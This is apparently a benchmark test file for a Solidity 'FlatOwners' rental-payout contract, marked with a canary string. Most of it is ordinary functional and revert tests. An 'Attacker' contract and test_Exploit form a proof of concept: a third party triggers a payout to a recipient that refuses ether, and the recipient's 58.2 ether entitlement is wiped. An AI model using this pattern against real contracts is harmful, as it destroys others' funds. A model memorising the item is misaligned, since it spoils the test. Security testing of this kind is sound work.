// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./FlatOwners.sol";

// assay-canary-6bcb8994-8151-4e07-8c2e-f3c6435b10a2

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A purse that takes ether only while its owner has it open.
contract Purse {
    address private owner = msg.sender;
    bool public open;

    function set(bool on) external {
        require(msg.sender == owner, "owner");
        open = on;
    }

    receive() external payable {
        require(open, "shut");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    Purse private purse;
    FlatOwners private flats;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        flats = new FlatOwners();
        purse = new Purse();
        vm.prank(ANA);
        flats.list(10 ether, two(ANA, address(purse)), parts(4_000, 6_000));
        vm.deal(CAT, 200 ether);
        vm.prank(CAT);
        flats.take{value: 100 ether}(0, 10);
        mallory = new Attacker(flats);
    }

    function two(address a, address b) private pure returns (address[] memory us) {
        us = new address[](2);
        us[0] = a;
        us[1] = b;
    }

    function parts(uint256 a, uint256 b) private pure returns (uint256[] memory ps) {
        ps = new uint256[](2);
        ps[0] = a;
        ps[1] = b;
    }

    function test_Regular() public {
        require(flats.due(ANA) == 38.8 ether && flats.due(address(purse)) == 58.2 ether, "shared");
        require(flats.due(address(this)) == 3 ether, "cut");
        purse.set(true);
        flats.out(address(purse));
        flats.out(ANA);
        require(address(purse).balance == 58.2 ether && ANA.balance == 38.8 ether, "paid");
        vm.startPrank(CAT);
        flats.take{value: 25 ether}(0, 2);
        require(CAT.balance == 80 ether && flats.flat(0).e == START + 360 days, "longer, and change");
        flats.leave(0);
        require(flats.flat(0).t == address(0), "left");
        vm.stopPrank();
        vm.startPrank(ANA);
        flats.rent(0, 12 ether);
        flats.split(0, two(ANA, BEN), parts(10_000, 0));
        flats.give(0, BEN);
        vm.stopPrank();
        flats.pass(BEN);
        vm.prank(CAT);
        flats.take{value: 12 ether}(0, 1);
        require(flats.due(ANA) == 7.76 ether + 11.64 ether && flats.due(BEN) == 0.36 ether, "new terms");
        flats.out(BEN);
        require(BEN.balance == 0.36 ether && flats.count() == 1, "new house");
    }

    function test_RefusesOwners() public {
        vm.startPrank(ANA);
        vm.expectRevert(FlatOwners.Zero.selector);
        flats.list(0, two(ANA, BEN), parts(4_000, 6_000));
        vm.expectRevert(FlatOwners.Zero.selector);
        flats.rent(0, 0);
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.split(0, new address[](0), new uint256[](0));
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.split(0, new address[](1), parts(4_000, 6_000));
        uint256[] memory ps = new uint256[](3);
        (ps[0], ps[1]) = (4_000, 6_000);
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.split(0, two(ANA, BEN), ps);
        address[] memory us = new address[](9);
        ps = new uint256[](9);
        for (uint256 k; k < 9; ++k) us[k] = ANA;
        ps[0] = 10_000;
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.split(0, us, ps);
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.split(0, two(ANA, address(0)), parts(4_000, 6_000));
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.split(0, two(ANA, BEN), parts(10_001, type(uint256).max));
        vm.expectRevert(FlatOwners.Sum.selector);
        flats.split(0, two(ANA, BEN), parts(4_000, 6_001));
        vm.expectRevert(FlatOwners.Zero.selector);
        flats.give(0, address(0));
        vm.stopPrank();
        vm.expectRevert(FlatOwners.Zero.selector);
        flats.pass(address(0));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert(FlatOwners.Who.selector);
        flats.rent(0, 1);
        vm.expectRevert(FlatOwners.Who.selector);
        flats.split(0, two(ANA, BEN), parts(4_000, 6_000));
        vm.expectRevert(FlatOwners.Who.selector);
        flats.give(0, BEN);
        vm.expectRevert(FlatOwners.Who.selector);
        flats.leave(0);
        vm.expectRevert(FlatOwners.Who.selector);
        flats.pass(BEN);
        vm.expectRevert(FlatOwners.Zero.selector);
        flats.out(BEN);
        vm.stopPrank();
    }

    function test_RefusesTenants() public {
        vm.deal(BEN, 300 ether);
        vm.prank(BEN);
        vm.expectRevert(FlatOwners.Busy.selector);
        flats.take{value: 10 ether}(0, 1);
        vm.warp(START + 300 days);
        vm.startPrank(BEN);
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.take(0, 0);
        vm.expectRevert(FlatOwners.Bad.selector);
        flats.take{value: 250 ether}(0, 25);
        vm.expectRevert(FlatOwners.Sum.selector);
        flats.take{value: 20 ether - 1}(0, 2);
        flats.take{value: 20 ether}(0, 2);
        vm.stopPrank();
    }

    function test_RefusesChange() public {
        vm.warp(START + 300 days);
        vm.deal(address(this), 11 ether);
        vm.expectRevert(FlatOwners.Call.selector);
        flats.take{value: 11 ether}(0, 1);
    }

    // What the owner of the purse has there and will have.
    function worth() public view returns (uint256) {
        return address(purse).balance + flats.due(address(purse));
    }

    function exploit() public {
        mallory.run(address(purse));
    }

    function test_Exploit() public {
        require(worth() == 58.2 ether, "at first");
        exploit();
        require(worth() == 0, "still there");
    }

    function target() public view returns (address) {
        return address(flats);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FlatOwners private flats;

    constructor(FlatOwners f) {
        flats = f;
    }

    function run(address u) external {
        flats.out(u);
    }
}
